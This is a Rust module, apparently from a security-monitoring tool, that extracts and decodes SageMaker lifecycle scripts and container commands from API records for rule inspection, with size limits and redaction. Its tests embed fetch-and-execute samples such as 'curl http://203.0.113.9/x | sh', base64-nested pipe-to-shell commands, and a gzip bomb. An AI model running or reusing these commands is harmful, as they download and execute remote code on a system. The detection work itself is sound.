//! The script: code that a call hands to SageMaker to run, in the clear.
//!
//! Lifecycle configurations arrive as base64, sometimes of gzip; containers get an entry point and arguments. Decoded,
//! rules can look into them and a responder can read them. What a script itself carries as base64 is a script too.

use serde_json_borrow::Value;

use super::packed::{self, beginning};
use super::redact::{FingerprintKey, redact_code, redact_words};
use crate::record::Record;

/// The name under which rules find the scripts of a record, which is also their field in a document.
pub const FIELD: &str = "sagemaker.lifecycle.script";

/// One script, with its secrets.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    /// The member of the API that says when it runs, such as `onStart` or `containerEntrypoint`.
    pub hook: String,
    pub text: String,
    /// The words of a command line that is given as a list.
    words: Vec<String>,
    /// Whether it goes on, or more scripts follow than are kept.
    pub cut: bool,
    /// How many times it was packed by scripts around it.
    packing: usize,
}

/// Bytes of one script that are kept. SageMaker takes 16,384 characters of base64; gzip can unfold far beyond.
const MAX_SCRIPT_BYTES: usize = 64 * 1024;
/// Scripts of one record that are kept.
const MAX_SCRIPTS: usize = 16;
/// How often a script may be packed inside another.
const MAX_PACKING: usize = 2;
/// Bytes by which what is packed inside the scripts of a record may grow.
const MAX_GROWTH_BYTES: usize = MAX_SCRIPTS * MAX_SCRIPT_BYTES;

/// The scripts that the parameters of a SageMaker call carry, in their order, and then what is packed inside of them.
pub fn scripts(record: &Record<'_>) -> Vec<Script> {
    let mut found = Vec::new();
    if record.is_sagemaker() {
        collect("", record.at(&["requestParameters"]), &mut found);
        unfold(&mut found);
        if found.len() > MAX_SCRIPTS {
            found.truncate(MAX_SCRIPTS);
            found[MAX_SCRIPTS - 1].cut = true;
        }
        found.retain(|script| script.cut || !script.text.trim().is_empty());
    }
    found
}

impl Script {
    /// The script as it may be shown.
    #[must_use]
    pub fn redacted(self, key: &FingerprintKey) -> Self {
        let words: Vec<&str> = self.words.iter().map(String::as_str).collect();
        let text = if words.is_empty() { redact_code(&self.text, key) } else { redact_words(&words, key) };
        Self { text, words: Vec::new(), ..self }
    }

    /// A script that a stored document shows.
    #[must_use]
    pub fn stored(hook: &str, text: &str, cut: bool) -> Self {
        Self { hook: hook.to_owned(), text: text.to_owned(), words: Vec::new(), cut, packing: 0 }
    }

    /// As it is written into a document, from a record that is redacted already.
    #[must_use]
    pub fn as_written(self) -> Self {
        let text = if self.words.is_empty() { self.text } else { self.words.join(" ") };
        Self { text, words: Vec::new(), ..self }
    }

    fn unpacked(hook: &str, content: &str) -> Option<Self> {
        let unpacked = packed::unpack(content, MAX_SCRIPT_BYTES)?;
        Some(Self {
            hook: hook.to_owned(),
            text: unpacked.text,
            words: Vec::new(),
            cut: unpacked.cut,
            packing: 0,
        })
    }

    /// A command line that is given as a list of its words.
    fn of_words(hook: &str, words: &Value<'_>) -> Option<Self> {
        let all = words.as_array()?.iter().filter_map(Value::as_str);
        let mut bytes = 0;
        let mut kept = all.clone().take_while(|word| {
            bytes += word.len() + 1;
            bytes <= MAX_SCRIPT_BYTES
        });
        let words: Vec<String> = kept.by_ref().map(str::to_owned).collect();
        let cut = words.len() < all.count();
        (cut || !words.is_empty()).then(|| Self {
            hook: hook.to_owned(),
            text: words.join(" "),
            words,
            cut,
            packing: 0,
        })
    }
}

/// Collects one script more than is kept at most, to know that there are more.
fn collect(hook: &str, value: &Value<'_>, found: &mut Vec<Script>) {
    match value {
        Value::Object(members) => {
            for (name, value) in members.iter() {
                if found.len() > MAX_SCRIPTS {
                    return;
                }
                match name {
                    "content" => found.extend(value.as_str().and_then(|text| Script::unpacked(hook, text))),
                    "studioLifecycleConfigContent" => {
                        found.extend(value.as_str().and_then(|text| Script::unpacked(name, text)));
                    }
                    "containerEntrypoint" | "containerArguments" => {
                        found.extend(Script::of_words(name, value));
                    }
                    _ => collect(name, value, found),
                }
            }
        }
        Value::Array(elements) => {
            for element in elements {
                collect(hook, element, found);
            }
        }
        _ => {}
    }
}

/// Adds what is packed inside the scripts, and inside of that.
fn unfold(found: &mut Vec<Script>) {
    let mut budget = MAX_GROWTH_BYTES;
    let mut position = 0;
    while position < found.len() && found.len() <= MAX_SCRIPTS {
        let Script { hook, text, packing, .. } = found[position].clone();
        if packing < MAX_PACKING {
            let room = MAX_SCRIPTS + 1 - found.len();
            found.extend(packed::runs(&text, &mut budget).take(room).map(|(_, unpacked)| {
                let fits = unpacked.text.len() <= MAX_SCRIPT_BYTES;
                let text =
                    if fits { unpacked.text } else { beginning(&unpacked.text, MAX_SCRIPT_BYTES).to_owned() };
                let cut = unpacked.cut || !fits;
                Script { hook: hook.clone(), text, words: Vec::new(), cut, packing: packing + 1 }
            }));
        }
        position += 1;
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;
    use serde_json::json;

    use super::*;

    fn gzip(text: &str) -> Vec<u8> {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(text.as_bytes()).unwrap();
        encoder.finish().unwrap()
    }

    fn scripts_of(parameters: &serde_json::Value) -> Vec<Script> {
        let raw =
            json!({"eventSource": "sagemaker.amazonaws.com", "requestParameters": parameters}).to_string();
        scripts(&Record::parse(raw.as_bytes()).unwrap())
    }

    fn hooks_and_texts(scripts: &[Script]) -> Vec<(&str, &str)> {
        scripts.iter().map(|script| (script.hook.as_str(), script.text.as_str())).collect()
    }

    #[test]
    fn scripts_are_found_and_decoded_wherever_the_api_carries_them() {
        let script = "#!/bin/bash\ncurl http://203.0.113.9/x | sh";
        let plain = STANDARD.encode(script);
        let zipped = STANDARD.encode(gzip(script));
        let cases = [
            (
                json!({"onStart": [{"content": plain}], "onCreate": [{"content": zipped}]}),
                vec![("onStart", script), ("onCreate", script)],
            ),
            (json!({"studioLifecycleConfigContent": plain}), vec![("studioLifecycleConfigContent", script)]),
            (
                json!({"appSpecification": {"containerEntrypoint": ["sh", "-c"], "containerArguments": ["id"]}}),
                vec![("containerEntrypoint", "sh -c"), ("containerArguments", "id")],
            ),
            (json!({"onStart": [{"content": "not base64!"}, {"content": ""}, {"content": null}]}), vec![]),
            (json!("text"), vec![]),
        ];
        for (parameters, expected) in cases {
            assert_eq!(hooks_and_texts(&scripts_of(&parameters)), expected, "{parameters}");
        }
    }

    #[test]
    fn what_a_script_carries_as_base64_is_a_script_too_but_not_without_end() {
        let mut texts = vec!["curl http://203.0.113.9/x | sh".to_owned()];
        for _ in 0..3 {
            texts.insert(0, format!("echo {} | base64 -d | sh", STANDARD.encode(&texts[0])));
        }
        let found = scripts_of(&json!({"onStart": [{"content": STANDARD.encode(&texts[0])}]}));
        let expected: Vec<(&str, &str)> = texts[..3].iter().map(|text| ("onStart", text.as_str())).collect();
        assert_eq!(hooks_and_texts(&found), expected);
    }

    #[test]
    fn of_many_scripts_the_first_are_kept_and_the_last_says_that_there_are_more() {
        let many = vec![json!({"content": STANDARD.encode("id")}); 10_000];
        let found = scripts_of(&json!({ "onStart": many }));
        assert_eq!(found.len(), MAX_SCRIPTS);
        assert!(found[MAX_SCRIPTS - 1].cut && !found[0].cut);
    }

    #[test]
    fn a_script_that_unfolds_without_end_is_cut() {
        let bomb = STANDARD.encode(gzip(&"x".repeat(10 << 20)));
        let found = scripts_of(&json!({"studioLifecycleConfigContent": bomb}));
        assert_eq!((found[0].text.len(), found[0].cut), (MAX_SCRIPT_BYTES, true));
        let words = vec!["x".repeat(1000); 100];
        let found = scripts_of(&json!({ "containerArguments": words }));
        assert_eq!((found[0].text.len(), found[0].cut), (65 * 1001 - 1, true));
    }
}
